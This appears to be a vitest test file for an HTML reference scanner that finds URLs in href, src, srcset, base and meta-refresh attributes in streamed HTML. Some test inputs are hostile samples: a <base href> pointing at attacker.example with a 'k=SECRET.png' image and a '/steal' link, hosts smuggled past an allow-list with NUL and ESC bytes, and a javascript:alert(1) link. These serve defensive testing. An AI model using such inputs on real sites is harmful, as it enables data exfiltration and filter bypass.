// References in HTML bodies: the URL-bearing attributes a browser would load or navigate to, resolved against the
// page (or its <base href>), named by tag and attribute.

import { describe, expect, it } from 'vitest';
import { HtmlReferenceScanner, refreshUrl, srcsetUrls } from '../../src/inspect/html.js';
import type { Reference } from '../../src/inspect/reference.js';

const PAGE = 'https://search.example.com/results/page?q=cats';

function scan(pieces: readonly string[], responseUrl = PAGE): string[] {
  const scanner = new HtmlReferenceScanner(responseUrl);
  const found: Reference[] = [];
  for (const piece of pieces) found.push(...scanner.write(piece));
  found.push(...scanner.end());
  return found.map((r) => `${r.found} ${r.url}`);
}

describe('HtmlReferenceScanner: each URL-bearing attribute', () => {
  it.each<[name: string, html: string, found: string[]]>([
    ['a[href]', '<a href="https://cdn.example.com/a">x</a>', ['html a[href] https://cdn.example.com/a']],
    [
      'link[href]',
      '<link rel="stylesheet" href="https://fonts.example.net/css">',
      ['html link[href] https://fonts.example.net/css'],
    ],
    ['img[src]', '<img src="https://img.example.net/cat.jpg">', ['html img[src] https://img.example.net/cat.jpg']],
    [
      'script[src]',
      '<script src="https://js.example.net/app.js"></script>',
      ['html script[src] https://js.example.net/app.js'],
    ],
    [
      'iframe[src]',
      '<iframe src="https://embed.example.net/v/1"></iframe>',
      ['html iframe[src] https://embed.example.net/v/1'],
    ],
    [
      'source[src] in video',
      '<video><source src="https://media.example.net/v.mp4"></video>',
      ['html source[src] https://media.example.net/v.mp4'],
    ],
    [
      'video[poster]',
      '<video poster="https://media.example.net/p.jpg"></video>',
      ['html video[poster] https://media.example.net/p.jpg'],
    ],
    [
      'img[data-src] (lazy loading)',
      '<img data-src="https://lazy.example.net/c.jpg">',
      ['html img[data-src] https://lazy.example.net/c.jpg'],
    ],
    [
      'form[action]',
      '<form action="https://forms.example.net/post" method="post"></form>',
      ['html form[action] https://forms.example.net/post'],
    ],
    [
      'button[formaction]',
      '<button formaction="https://forms.example.net/other">go</button>',
      ['html button[formaction] https://forms.example.net/other'],
    ],
    [
      'blockquote[cite]',
      '<blockquote cite="https://quotes.example.net/q/1">q</blockquote>',
      ['html blockquote[cite] https://quotes.example.net/q/1'],
    ],
    ['q[cite]', '<q cite="https://quotes.example.net/q/2">q</q>', ['html q[cite] https://quotes.example.net/q/2']],
    ['unquoted value', '<a href=https://cdn.example.com/u>x</a>', ['html a[href] https://cdn.example.com/u']],
    ['single-quoted value', "<a href='https://cdn.example.com/s'>x</a>", ['html a[href] https://cdn.example.com/s']],
    [
      'upper-case tag and attribute',
      '<A HREF="https://cdn.example.com/U">x</A>',
      ['html a[href] https://cdn.example.com/U'],
    ],
    [
      'entities decoded',
      '<a href="https://cdn.example.com/a?b=1&amp;c=2&#x26;d=3">x</a>',
      ['html a[href] https://cdn.example.com/a?b=1&c=2&d=3'],
    ],
    [
      'scheme written with entities',
      '<a href="&#x68;ttps://cdn.example.com/e">x</a>',
      ['html a[href] https://cdn.example.com/e'],
    ],
    [
      'relative, against the page',
      '<a href="next?page=2">x</a><img src="/i/cat.png">',
      [
        'html a[href] https://search.example.com/results/next?page=2',
        'html img[src] https://search.example.com/i/cat.png',
      ],
    ],
    [
      'scheme-relative, with the page scheme',
      '<img src="//img.example.net/c.jpg">',
      ['html img[src] https://img.example.net/c.jpg'],
    ],
    [
      'IDN normalised, IP literal kept',
      '<a href="https://bücher.example/">x</a><img src="http://10.0.0.1/x.png">',
      ['html a[href] https://xn--bcher-kva.example/', 'html img[src] http://10.0.0.1/x.png'],
    ],
    [
      'every element in a document, in order',
      '<p><a href="https://a.example/">a</a></p><div><img src="https://b.example/b.png"></div>',
      ['html a[href] https://a.example/', 'html img[src] https://b.example/b.png'],
    ],
    [
      'javascript:, mailto:, data: and tel: are not references',
      '<a href="javascript:alert(1)">j</a><a href="mailto:a@b.example">m</a><img src="data:image/png;base64,AAAA"><a href="tel:+1">t</a>',
      [],
    ],
    ['an empty href is the page itself', '<a href="">self</a>', [`html a[href] ${PAGE}`]],
    [
      'other attributes are not read',
      '<div title="https://t.example/" data-url="https://d.example/" style="background:url(https://s.example/)">x</div>',
      [],
    ],
    ['text is not read', '<p>Visit https://text.example/ today</p>', []],
    ['comments are not read', '<!-- <a href="https://comment.example/">x</a> -->', []],
    ['script bodies are not read', '<script>var a = \'<a href="https://script.example/">\';</script>', []],
    [
      'unclosed tag at the end',
      '<a href="https://a.example/">x</a><img src="https://b.example/',
      ['html a[href] https://a.example/'],
    ],
  ])('%s', (_name, html, found) => {
    expect(scan([html])).toEqual(found);
  });
});

describe('HtmlReferenceScanner: srcset', () => {
  it.each<[name: string, html: string, found: string[]]>([
    [
      'every candidate',
      '<img srcset="https://a.example/s.jpg 1x, https://b.example/l.jpg 2x">',
      ['html img[srcset] https://a.example/s.jpg', 'html img[srcset] https://b.example/l.jpg'],
    ],
    [
      'width descriptors and sizes',
      '<img srcset="https://a.example/320.jpg 320w,https://a.example/640.jpg 640w" sizes="(max-width: 600px) 320px, 640px">',
      ['html img[srcset] https://a.example/320.jpg', 'html img[srcset] https://a.example/640.jpg'],
    ],
    [
      'commas inside a URL (image CDNs)',
      '<img srcset="https://res.example/w_100,h_100/a.jpg 1x, https://res.example/w_200,h_200/a.jpg 2x">',
      [
        'html img[srcset] https://res.example/w_100,h_100/a.jpg',
        'html img[srcset] https://res.example/w_200,h_200/a.jpg',
      ],
    ],
    [
      'relative candidates',
      '<img srcset="a.jpg, /b.jpg 2x">',
      [
        'html img[srcset] https://search.example.com/results/a.jpg',
        'html img[srcset] https://search.example.com/b.jpg',
      ],
    ],
    [
      'in picture/source',
      '<picture><source srcset="https://a.example/a.webp" type="image/webp"><img src="https://a.example/a.jpg"></picture>',
      ['html source[srcset] https://a.example/a.webp', 'html img[src] https://a.example/a.jpg'],
    ],
  ])('%s', (_name, html, found) => {
    expect(scan([html])).toEqual(found);
  });

  it.each<[value: string, urls: string[]]>([
    ['', []],
    ['a.jpg', ['a.jpg']],
    ['a.jpg 1x,b.jpg 2x', ['a.jpg', 'b.jpg']],
    ['a.jpg,b.jpg', ['a.jpg,b.jpg']],
    ['a.jpg, b.jpg', ['a.jpg', 'b.jpg']],
    ['  a.jpg  100w ,  b.jpg  200w  ', ['a.jpg', 'b.jpg']],
    ['a.jpg (x, y) 1x, b.jpg', ['a.jpg', 'b.jpg']],
    [',,, a.jpg,,, b.jpg', ['a.jpg', 'b.jpg']],
  ])('srcsetUrls(%j) → %j', (value, urls) => {
    expect(srcsetUrls(value)).toEqual(urls);
  });
});

describe('HtmlReferenceScanner: <base href>', () => {
  it.each<[name: string, html: string, found: string[]]>([
    [
      'a base on the same origin changes the base for relative URLs after it',
      '<a href="before.html">b</a><base href="https://search.example.com/assets/"><img src="i.png"><a href="/root">r</a>',
      [
        'html a[href] https://search.example.com/results/before.html',
        'html base[href] https://search.example.com/assets/',
        'html img[src] https://search.example.com/assets/i.png',
        'html a[href] https://search.example.com/root',
      ],
    ],
    [
      'a base on another host is a reference, but relative URLs never resolve against it (issue 11 §2)',
      '<base href="https://attacker.example/"><img src="k=SECRET.png"><a href="/steal">r</a><img srcset="x.jpg 1x"><meta http-equiv=refresh content="0; url=/r"><a href="//cdn.example.com/ok">ok</a>',
      ['html base[href] https://attacker.example/'],
    ],
    [
      'a base on another port of the page host counts as another origin',
      '<base href="https://search.example.com:8443/"><img src="i.png">',
      ['html base[href] https://search.example.com:8443/'],
    ],
    [
      'a relative base resolves against the page',
      '<base href="/static/"><img src="i.png">',
      ['html base[href] https://search.example.com/static/', 'html img[src] https://search.example.com/static/i.png'],
    ],
    [
      'only the first base counts',
      '<base href="/one/"><base href="https://two.example/"><img src="i.png">',
      [
        'html base[href] https://search.example.com/one/',
        'html base[href] https://two.example/',
        'html img[src] https://search.example.com/one/i.png',
      ],
    ],
    [
      'a base without href does not count',
      '<base target="_blank"><base href="/one/"><img src="i.png">',
      ['html base[href] https://search.example.com/one/', 'html img[src] https://search.example.com/one/i.png'],
    ],
    [
      'a javascript: base is ignored',
      '<base href="javascript:x"><img src="i.png">',
      ['html img[src] https://search.example.com/results/i.png'],
    ],
    [
      'absolute URLs do not use it',
      '<base href="https://one.example/"><img src="https://two.example/i.png">',
      ['html base[href] https://one.example/', 'html img[src] https://two.example/i.png'],
    ],
  ])('%s', (_name, html, found) => {
    expect(scan([html])).toEqual(found);
  });
});

describe('HtmlReferenceScanner: <meta http-equiv=refresh>', () => {
  it.each<[name: string, html: string, found: string[]]>([
    [
      'url= form',
      '<meta http-equiv="refresh" content="0; url=https://next.example/x">',
      ['html meta[refresh] https://next.example/x'],
    ],
    [
      'content before http-equiv',
      '<meta content="5;URL=https://next.example/y" http-equiv="Refresh">',
      ['html meta[refresh] https://next.example/y'],
    ],
    [
      'quoted URL',
      `<meta http-equiv="refresh" content="3; url='https://next.example/q'">`,
      ['html meta[refresh] https://next.example/q'],
    ],
    [
      'relative URL',
      '<meta http-equiv="refresh" content="1; url=/elsewhere">',
      ['html meta[refresh] https://search.example.com/elsewhere'],
    ],
    ['refreshing itself is no reference', '<meta http-equiv="refresh" content="30">', []],
    [
      'another http-equiv is not read',
      '<meta http-equiv="content-security-policy" content="default-src https://csp.example/">',
      [],
    ],
    ['a meta without http-equiv is not read', '<meta property="og:image" content="https://og.example/i.png">', []],
  ])('%s', (_name, html, found) => {
    expect(scan([html])).toEqual(found);
  });

  it.each<[content: string, url: string | undefined]>([
    ['0; url=https://a.example/', 'https://a.example/'],
    ['0;URL=https://a.example/', 'https://a.example/'],
    ['  5 ;  url = https://a.example/ ', 'https://a.example/ '],
    ['0, https://a.example/', 'https://a.example/'],
    ['0 https://a.example/', 'https://a.example/'],
    ['0.5; url=/x', '/x'],
    [".5; url='/x' trailing", '/x'],
    ['0; url="/x', '/x'],
    ['0; /x', '/x'],
    ['0; urn:x', 'urn:x'],
    ['0', undefined],
    ['0;', undefined],
    ['x; url=/x', undefined],
    ['0x; url=/x', undefined],
    ['', undefined],
  ])('refreshUrl(%j) → %j', (content, url) => {
    expect(refreshUrl(content)).toBe(url);
  });
});

describe('HtmlReferenceScanner: streaming', () => {
  const doc =
    '<html><head><base href="https://search.example.com/a/"><meta http-equiv=refresh content="9; url=https://r.example/"></head><body><a href="x.html">x</a><img srcset="https://i.example/1.jpg 1x, https://i.example/2.jpg 2x"><a href="https://l.example/p?a=1&amp;b=2">l</a></body></html>';
  const expected = [
    'html base[href] https://search.example.com/a/',
    'html meta[refresh] https://r.example/',
    'html a[href] https://search.example.com/a/x.html',
    'html img[srcset] https://i.example/1.jpg',
    'html img[srcset] https://i.example/2.jpg',
    'html a[href] https://l.example/p?a=1&b=2',
  ];

  it('finds the same references when the text is split at every possible point', () => {
    expect(scan([doc])).toEqual(expected);
    for (let i = 0; i <= doc.length; i++) {
      expect(scan([doc.slice(0, i), doc.slice(i)]), `split at ${i}`).toEqual(expected);
    }
  });

  it('finds them when the text arrives one character at a time', () => {
    expect(scan([...doc])).toEqual(expected);
  });

  it('reports an attribute by the write that completes its value, before the tag ends', () => {
    const scanner = new HtmlReferenceScanner(PAGE);
    expect(scanner.write('<a href="https://cdn.exa')).toEqual([]);
    expect(scanner.write('mple.com/x" class="c').map((r) => r.url)).toEqual(['https://cdn.example.com/x']);
    expect(scanner.write('">x</a>')).toEqual([]);
  });

  it('never throws on malformed HTML', () => {
    const junk = '<<a href="https://a.example/" <img src=>\u0000</p></div><a href="https://b.example/"<<>>"<!--';
    expect(() => scan([junk])).not.toThrow();
    expect(scan([junk])).toContain('html a[href] https://a.example/');
  });
});

describe('HtmlReferenceScanner: control bytes and deep nesting', () => {
  it.each([
    ['a raw NUL in an href host', '<a href="http://allowed.example\u0000.attacker.example/">x</a>'],
    ['a NUL character reference', '<a href="http://allowed.example&#0;.attacker.example/">x</a>'],
    ['an ESC character reference', '<a href="http://allowed.example&#27;.attacker.example/">x</a>'],
    ['a raw NUL after the host', '<img src="http://attacker.example\u0000">'],
  ])('%s: no reference', (_name, html) => {
    expect(scan([html])).toEqual([]);
  });

  it('200,000 nested elements, then a link: found, and the held text stays small', () => {
    const scanner = new HtmlReferenceScanner(PAGE);
    const piece = '<div>'.repeat(13_000);
    let held = 0;
    for (let i = 0; i < 16; i++) {
      scanner.write(piece);
      held = Math.max(held, scanner.heldLength);
    }
    expect(scanner.write('<a href="https://deep.example/">x</a>').map((r) => r.url)).toEqual(['https://deep.example/']);
    // Only the write being tokenised (and a token spanning two) is held, never the document.
    expect(held).toBeLessThanOrEqual(2 * piece.length);
  });
});
